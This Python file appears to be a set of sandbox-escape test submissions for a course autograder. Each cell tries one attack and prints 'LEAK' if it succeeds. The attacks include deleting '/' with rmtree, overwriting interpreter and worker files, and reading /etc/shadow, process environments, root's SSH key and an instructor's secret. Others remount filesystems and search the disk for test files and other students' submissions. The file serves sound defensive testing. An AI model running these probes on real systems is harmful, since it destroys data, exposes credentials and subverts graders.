"""Files of others: secrets, tests, the runtime, modes, links and leases."""

import ctypes, mmap, os, signal, struct, sys, threading, time


# %% change_modes: Changes modes, owners, times, attributes and links of what it can reach, by every call there is.
c = ctypes.CDLL(None, use_errno=True)
places = [os.__file__, os.path.dirname(os.__file__), "..", ".", sys.executable, "/tmp/mlnotes-attack-canary"]
for place in places:
    name = place.encode()
    for attempt in (
        lambda: os.chmod(place, 0),
        lambda: os.utime(place, (1, 1)),
        lambda: os.chown(place, os.getuid(), -1),
        lambda: os.link(place, "linked"),
        lambda: os.setxattr(place, "user.answers", b"x"),
        lambda: os.fchmod(os.open(place, os.O_RDONLY), 0),
    ):
        try:
            attempt()
            print("LEAK: it worked on", place)
        except OSError:
            pass
    for number in (90, 91, 268, 452, 92, 260, 132, 235, 280, 188, 189, 190, 463, 86, 265, 133):
        if c.syscall(number, name, 0, 0, 0, 0) == 0:
            print("LEAK: call", number, "worked on", place)

def fit_mean(X):
    return X[0]

# %% change_runtime: Changes the interpreter, NumPy and the worker for the next submission.
import numpy

def fit_mean(X):
    base = os.path.dirname(os.path.dirname(os.path.dirname(numpy.__file__)))
    for path in (
        numpy.__file__,
        os.__file__,
        f"{base}/worker.py",
        f"{base}/wire.py",
        sys.executable,
        f"{base}/packages/evil.py",
        f"{base}/python/lib/sitecustomize.py",
    ):
        for act in (
            lambda: open(path, "a").write("\nLEAK = 1\n"),
            lambda: os.chmod(path, 0o777),
            lambda: os.unlink(path),
            lambda: os.rename(path, path + ".old"),
            lambda: os.truncate(path, 0),
        ):
            try:
                act()
                print("LEAK changed", path)
            except OSError:
                pass
    return 0 * X[0] + 7.0

# %% delete_files: Deletes everything that it may.
import shutil

def fit_mean(X):
    for place in ("/", "/runtime", "/tmp", "..", "."):
        shutil.rmtree(place, ignore_errors=True)
    return 0 * X[0] + 7.0

# %% find_left_things: Reads what another submission may have left.
libc = ctypes.CDLL(None, use_errno=True)

def fit_mean(X):
    for place in ("/dev/shm/mlnotes-left", "/var/tmp/mlnotes-left", "/tmp/mlnotes-left"):
        try:
            print("LEAK", open(place).read())
        except OSError:
            pass
    if libc.shmget(0x5EED, 4096, 0) >= 0 or libc.msgget(0x5EED, 0) >= 0:
        print("LEAK ids")
    return 0 * X[0] + 7.0

# %% leave_things: Leaves files, shared memory, message queues and semaphores behind for the next submission.
libc = ctypes.CDLL(None, use_errno=True)
for place in ("/dev/shm/mlnotes-left", "/var/tmp/mlnotes-left", "/tmp/mlnotes-left", "/run/mlnotes-left"):
    try:
        open(place, "w").write("left")
    except OSError:
        pass
print("ids", libc.shmget(0x5EED, 4096, 0o1666), libc.msgget(0x5EED, 0o1666), libc.semget(0x5EED, 1, 0o1666))

# %% paths_nowhere: Opens files for writing by names in memory that is not there, not its own, or goes away.
c = ctypes.CDLL(None)
page = mmap.mmap(-1, 4096)
end = ctypes.addressof(ctypes.c_char.from_buffer(page)) + 4095
page[4095:] = b"/"
for address in (0, 1, 4095, 2**47 - 1, 2**47, 2**63, 2**64 - 1, 2**63 + 4096, end):
    for number, arguments in (
        (257, (-100, ctypes.c_uint64(address), 65, 0)),
        (2, (ctypes.c_uint64(address), 65, 0)),
        (85, (ctypes.c_uint64(address), 0)),
    ):
        c.syscall(number, *arguments)

def fit_mean(X):
    name = ctypes.create_string_buffer(b"/etc/passwd\x1b[31mLEAK\n,=1+1")
    for _ in range(200):
        threading.Thread(target=lambda: c.open(name, 65, 0o600)).start()
    return X[0]

# %% read_canary: Reads the instructor's secret, by the path that is used in these tests and by links to it.
CANARY = "/tmp/mlnotes-attack-canary/secret.key"

def fit_mean(X):
    for make in (os.link, os.symlink):
        try:
            make(CANARY, "here")
        except OSError:
            pass
    for path in (CANARY, "here", f"/proc/self/root{CANARY}", f"/proc/1/root{CANARY}"):
        try:
            print("LEAK", open(path).read())
        except OSError:
            pass
    return 0 * X[0] + 7.0

# %% read_system: Reads the accounts, the environment, command lines and memory maps.
def fit_mean(X):
    for path in (
        "/etc/passwd",
        "/etc/shadow",
        "/proc/self/environ",
        "/proc/1/environ",
        "/proc/1/cmdline",
        f"/proc/{os.getppid()}/environ",
        f"/proc/{os.getppid()}/cmdline",
        "/proc/self/maps",
        "/proc/self/mountinfo",
        "/sys/kernel/hostname",
        os.path.expanduser("~root/.ssh/id_rsa"),
        "/var/run/docker.sock",
    ):
        try:
            print("LEAK", path, open(path).read()[:200])
        except OSError as error:
            print(path, error.errno)
    return 0 * X[0] + 7.0

# %% read_tests: Searches the disk for the assignment, the claims and other submissions, and prints what it finds.
import glob

def fit_mean(X):
    for place in (
        "/",
        "/runtime",
        "/tmp",
        "/work",
        "/home",
        "/root",
        "..",
        "../..",
        "../../..",
        "/usr/lib/python3",
    ):
        for pattern in ("*", "**/attacks/*.py", "*/mlnotes*", "*/*hw0*"):
            try:
                for path in glob.glob(os.path.join(place, pattern))[:500]:
                    if "mlnotes/" in path or "hw0" in path or "attacks" in path:
                        print("LEAK", path, open(path).read()[:1000])
            except OSError:
                pass
    return 0 * X[0] + 7.0

# %% remount: Makes the read-only system writable again and mounts its own.
libc = ctypes.CDLL(None, use_errno=True)

def fit_mean(X):
    for place in (b"/", b"/runtime", b"/tmp", b"/usr"):
        if (
            libc.mount(None, place, None, 32 | 4096, None) == 0
            or libc.mount(b"none", place, b"tmpfs", 0, None) == 0
        ):
            print("LEAK mount", place)
        if libc.umount2(place, 2) == 0:
            print("LEAK umount", place)
    if libc.chroot(b"/tmp") == 0:
        print("LEAK chroot")
    return 0 * X[0] + 7.0

# %% take_leases: Takes leases on the staged files, so that whoever opens them waits.
import fcntl
import glob
held = []
for path in [
    __file__ if "__file__" in globals() else os.__file__,
    *glob.glob(f"{os.path.dirname(os.__file__)}/*.py")[:40],
]:
    try:
        file = open(path)
        fcntl.fcntl(file, 1024, 1)
        held.append(file)
        print("LEAK: a lease on", path)
    except OSError:
        pass

def fit_mean(X):
    return X[0] * 0 + len(held)

# %% truncate_by_path: Shortens files by their paths, which Landlock lets pass before Linux 6.2, and opens them by a call with its flags in memory.
c = ctypes.CDLL(None, use_errno=True)
for path in ("/tmp/mlnotes-attack-canary/secret.key", os.__file__, "../../secret.key"):
    for attempt in (os.truncate, lambda path, size: c.syscall(76, path.encode(), size)):
        try:
            attempt(path, 0)
        except OSError:
            pass
    how = struct.pack("<QQQ", os.O_WRONLY | os.O_TRUNC, 0, 0)
    if c.syscall(437, -100, path.encode(), how, 24) >= 0:
        print("LEAK: opened to be written")

# %% use_shared_things: Reads and removes message queues, shared memory and semaphores that others made, by their place in the kernel's list.
c = ctypes.CDLL(None, use_errno=True)
room = ctypes.create_string_buffer(512)
for place in range(64):
    queue = c.msgctl(place, 13, room)  # MSG_STAT_ANY: the id of what stands at that place
    if queue >= 0:
        if c.msgrcv(queue, room, 500, 0, 0o4000) > 0:
            print(room.raw[8:60].decode("latin-1"))
        c.msgctl(queue, 0, None)
    c.shmctl(c.shmctl(place, 15, room), 0, None)
    semaphore = c.semctl(place, 0, 20, room)
    if c.semop(semaphore, b"\0\0\1\0\0\x08", 1) == 0:
        print("LEAK: a semaphore")
    c.semctl(semaphore, 0, 0)

# %% watch_neighbours: Asks the kernel to tell it when neighbours open the staged files.
c = ctypes.CDLL(None, use_errno=True)
for number in (253, 294, 26, 300):
    if c.syscall(number, 0, 0) > 0:
        print("LEAK: a watch of files")
try:
    import fcntl

    fcntl.fcntl(os.open(os.path.dirname(os.__file__), os.O_RDONLY), 1026, 0x3F)
    print("LEAK: notices of a folder")
except OSError:
    pass

def fit_mean(X):
    return X[0]
